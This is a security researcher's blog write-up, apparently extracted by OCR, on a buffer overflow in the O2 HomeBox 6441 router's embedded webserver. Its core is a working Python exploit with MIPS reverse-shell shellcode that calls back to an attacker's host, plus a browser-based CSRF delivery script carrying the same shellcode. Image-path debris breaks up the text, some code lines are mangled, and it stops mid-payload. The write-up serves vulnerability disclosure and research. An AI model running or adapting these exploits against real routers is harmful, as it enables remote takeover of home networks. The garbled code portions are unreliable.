We regularly investigate the security of Customer Premises Equipment (CPEs), also known as SOHO routers. One important aspect of these investigations is to check for memory corruption vulnerabilities like buffer overflows. While these types of bugs were discovered in 1996[1] and secure coding practices as well as exploitation mitigation techniques should render these issues to a vanishing phenomenon, we still encounter them on today’s devices.
In August 2018, NSIDE investigated the O2HomeBox 6441 in terms of memory corruption vulnerabilities and discovered a buffer overflow in the embedded webserver. Most of the time NSIDE doesn’t publish such findings, because we are bound by NDAs

The Vulnerability

Usually all parameters that are accepted by the webserver get sanitized and their length is checked or ceiled against/to an upper bound. The parameter in questionhowever is a synchronizer token that is sent automatically by thebrowser of a user. Maybe this is the reason why the value was not sanitized before it is used, as regular users cannot influence this token in a normal interaction. Malicious users (attackers) however may look for memory corruptions in these very locations.
The identified parameter is called _tn and is evaluated, if sent to the /cgi/ path of the webserver. We minimized the required request to the following one:

GET /cgi/?_tn=OVERFLOW HTTP/1.1

The vulnerability was discovered using fuzzing. If the length of the _tn token exceeds 153 bytes, the webserver will crash. Such a behavior strongly suggests that an overflow of the parameter occurred. However it remains uncertain where the overflow occurred and what action was conducted at this point. Often an overwritten pointer is the cause of such behavior, which we confirmed in this instance. The severity of such a pointer overwrite depends on whether data is loaded from the pointer, it is stored to the pointer, or in the worst case, the pointer is loaded into the program counter.

Investigation of the Vulnerability

One approach to debug an issue like this is to “just break the thing and look at thepieces”. As NSIDE had debug access to the device, it was found most informative to trigger the overflow and look at the produced stack trace after the crash occurred. So after sending many A’s for the affected parameter, the following stack trace could be observed on the device by issuing dmesg:

41 is the binary representation of A. The information that can be gathered from the screenshot confirms an attacker’s hope, that the program counter which resides in the EPC register in this MIPS architecture can be overwritten by 0x41414141 or any other value which is indeed the most critical of all options.
The overflow not only allows to divert the execution flow to a location controlled by the attacker, but apparently also allows to control huge portions of the stack.
Knowing that most CPEs (or routers) are running older versions of Linux, the next step was to investigatewhich countermeasures for such vulnerabilities were in place. Fortunately for us ASLR was only used partially (only the stack location is randomized, the heap resides at a static location) and NX was not used at all (as heap and stack are marked executable) in this particular device:

This means that an attacker may inject shellcode to the heap or the stack and execute it by overwriting EIP with the address of the shellcode to achieve remote code execution (RCE).
As we are always dedicated to get the most out of a vulnerability and to use it in our Red Team Engagements for example, a weaponized exploit was created to also demonstrate the real impact of this and to underline the importance of a solid patch in the near future.

Exploiting the Vulnerability

A first step to a successful exploit was to identify a location within the address space of the program where shellcode could be placed and called reliably. As the stack is randomized by ASLR, the heap was found to be the more interesting target for shellcode. NSIDE changed the request to the following one:

GET /cgi/?_tn=’A’*157 HTTP/1.1

The request was sent to the server and searched within the heap of the webserver using GDB in order to find addresses where the A’s (0x41) and B’s (0x42) reside.The whole GET request was successfully found at address 0x448305, starting with 0x474554 (Hex value for GET).
As the heap is not affected by ASLR, shellcode can reliably be placed and called at 0x4483c8 (Where the B’s start). This means exploitation should be possible by substituting the B’s with suitable shellcode and trigger the overflow by sending A for153 times followed by the address 0x4483c8 (in Hex: ‘\x41’ * 153 + ’\x00\x44\x83\xc8’).
But there is one problem left: The address within the heap contains a leading null byte. Unfortunately the vulnerability emerges from an unsafe string operation, resulting in the string being terminated as soon as a null byte is processed.
During some unsuccessful attempts with return oriented programming (ROP[2]) an odd behavior was observed. Apparently the string operation did not copy the supplied string 1:1. Sending a string of 162 A’s followed by “BCD” resulted in this peculiar representation on the stack:

So apparently the end of the string appeared twice, separated by a null byte. The copy functionality hence produced ABCD\x00BCD from the input ABCD. This was a lucky finding and enabled RCE (Remote Code Execution).
The final exploit lookedclose to this:

GET /cgi/?_tn= 'A' * 153 + '\x44\x83\xcc' HTTP/1.1

Due to the minimal different request, the address of the shellcode was slightly shifted to 0x4483cc. As shellcode, a reverse shell was submitted and was found to be working as depicted in the following screenshot.

Exploit code here:

#!/usr/bin/env pythonimport struct, socket, sys, telnetlib
from time import sleep

def interactive(sock, production = True):
if production:
sock.send(b'uname -a;id;echo "\n"\n')
t = telnetlib.Telnet()
t.sock = sockif(len(sys.argv) < 5) :
print('[-] Usage : remote_ip remote_port local_ip local_port')
print('[!] ATTENTION: Arguments have to be valid at first attempt, further attempts all trigger the values sent at first attempt')


host = sys.argv[1]
port = int(sys.argv[2])
rev_port = int(sys.argv[4])

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s1 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)print('[+] Starting listener on' + str(rev_port) + '\n')
s1.bind(("", rev_port))

try :
s.connect((host, port))
except :
print('[-] Unable to connect')

print('[+] Connected to remote host')

#ip to bytes for the shellcode

ip = sys.argv[3].split('.')
a = bytes([int(ip[0])])
b = bytes([int(ip[1])])
c = bytes([int(ip[2])])d = bytes([int(ip[3])])
rev_port = struct.pack('>H',rev_port)

shellcode = b'\x24\x0f\xff\xfa\x01\xe0\x78\x27\x21\xe4\xff\xfd\x21'
shellcode += b'\xe5\xff\xfd\x28\x06\xff\xff\x24\x02\x10\x57\x01\x01'
shellcode += b'\x01\x0c\xaf\xa2\xff\xff\x8f\xa4\xff\xff\x34\x0f\xff'
shellcode += b'\xfd\x01\xe0\x78\x27\xaf\xaf\xff\xe0\x3c\x0e' + rev_port
shellcode += b'\x35\xce' + rev_port + b'\xaf\xae\xff\xe4\x3c\x0e' + a + b + b'\x35'
shellcode += b'\xce' + c + d + b'\xaf\xae\xff\xe6\x27\xa5\xff\xe2\x24\x0c'
shellcode += b'\xff\xef\x01\x80\x30\x27\x24\x02\x10\x4a\x01\x01\x01'
shellcode += b'\x0c\x24\x11\xff\xfd\x02\x20\x88\x27\x8f\xa4\xff\xff'
shellcode += b'\x02\x20\x28\x21\x24\x02\x0f\xdf\x01\x01\x01\x0c\x24'
shellcode += b'\x10\xff\xff\x22\x31\xff\xff\x16\x30\xff\xfa\x28\x06'
shellcode += b'\xff\xff\x3c\x0f\x2f\x2f\x35\xef\x62\x69\xaf\xaf\xff'
shellcode += b'\xec\x3c\x0e\x6e\x2f\x35\xce\x73\x68\xaf\xae\xff\xf0'
shellcode += b'\xaf\xa0\xff\xf4\x27\xa4\xff\xec\xaf\xa4\xff\xf8\xaf'
shellcode += b'\xa0\xff\xfc\x27\xa5\xff\xf8\x24\x02\x0f\xab\x01\x01'
shellcode += b'\x01\x0c'

print('[+] Pushing shellcode and returning to heap\n')

payload = b'A' * 153 + b'\x44\x83\xcc' # return to 0x4483cc on the heap

request = b'GET /cgi/?_tn=' + payload + b' HTTP/1.1\r\n'
request += b'Host:\r\n'
request += shellcode + b'\r\n\r\n\r\n'

(client, (ip, port)) = s1.accept()
print('[+] Incoming connection from: ' + ip + ':' + str(port) + '\n')


The exploit was also found to be working remotely on CPEs whose owners exposed the webserver to the Internet by enabling the remote management capability. At the time of the test almost 2000 of thesevulnerable routers were found on Shodan only, exposing their webserver to the Internet. But why settle for this number if we could also be…

Smashing the concealed Stack by Redirection for Fun and Profit

To further expand the number of potential targets, a technique called cross site request forgery (CSRF[3]) came to mind. An attacker that is able to convince his victim to visit a website under his control is able to send requests from their browser to other websites. As the router does not implement any countermeasure against this type of attack and the exploited overflow was quite simple, this attack seemed feasible. However certain constraints had to be met:
1. As the request would be sent by the browser of the victim, GET parameters in the URL will get URL encoded if they contain special characters.
2. The request itself is rather malformed and has to contain shellcode which consists mainly of non ASCII characters.
The second constraint could be met quite easily, as XMLHttpRequest(XHR) allows to submit all characters in C encoding if submitted as POST parameter.
The first constraint however was a bit harder to meet. As no special characters could be placed within the address of the shellcode, a robust location for the shellcode had to be found with an alphanumeric address (the existing exploit uses the address 0x4483c8 which is not alphanumeric; browsers would send this address as D%83%c8 or even D%25%8d%25%c8).
After another round of investigation, we realized that the webserver was using not one, but eight threads for processing incoming requests,each having its own separate address space on the heap.
The plan to exploit this would be to flood the webserver with POST requests containing the shellcode. Hopefully one thread would be writing the shellcode to an alphanumerical address from where we can execute it with another GET request as with the normal exploit.
The following proof of concept (POC)was created to evaluate whether one of the eight threads would write to an alphanumerical location within the address space.

<script>history.pushState('', '', '/')</script>
function submitRequest()
var xhr = new XMLHttpRequest();"POST", "http:\/\/\/cgi\/", true);
var aBody = new Uint8Array(body.length);
for (var i = 0; i < aBody.length; i++)
aBody[i] = body.charCodeAt(i);
xhr.send(new Blob([aBody]));
for (i = 0; i < 100; i++) {

By visiting this website, the browser is sending 100 POST requests containing many A’s to the webserver of the router. After this interaction the heap of the webserver was inspected.
The POST request was identified at 0x448300, 0x44aad0, 0x44d2a0, 0x44fa70, 0x452240, 0x454a10, 0x4571e0 and 0x4599b0.
Therefor the addresses 0x452240, 0x454a10 and 0x4571e0 seemed promising, as the other locations contain a none ASCII character in the middle (only characters 0x20-0x7e are printableASCII characters). Upon inspection of the first address we indeed recognized A’s that could be addressed with ASCII characters:

0x23 corresponds to # and will not be sent by browsers, but the $ character (0x24) will be. Thus the address 0x452424 (E$$) will be used as location for the shellcode. The proof of concept has only to be modified slightly to complete the attack.

The A’s of the 100 POST requests have to contain the shellcode (after 189 characters of padding).
A 101st request has to trigger the overflow and induce the execution of the shellcode.

<script>history.pushState('', '', '/')</script>
function submitRequest()
var xhr = new XMLHttpRequest();"POST", "http:\/\/\/cgi\/", true);
var body = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x24\x0f\xff\xfa\x01\xe0\x78\x27\x21\xe4\xff\xfd\x21\xe5\xff\xfd\x28\x06\xff\xff\x24\x02\x10\x57\x01\x01\x01\x0c\xaf\xa2\xff\xff\x8f\xa4\xff\xff\x34\x0f\xff\xfd\x01\xe0\x78\x27\xaf\xaf\xff\xe0\x3c\x0e\x05\x39\x35\xce\x05\x39\xaf\xae\xff\xe4\x3c\x0e\xc0\xa8\x35\xce\x01\xd8\xaf\xae\xff\xe6\x27\xa5\xff\xe2\x24\x0c\xff\xef\x01\x80\x30\x27\x24\x02\x10\x4a\x01\x01\x01\x0c\x24\x11\xff\xfd\x02\x20\x88\x27\x8f\xa4\xff\xff\x02\x20\x28\x21\x24\x02\x0f\xdf\x01\x01\x01\x0c\x24\x10\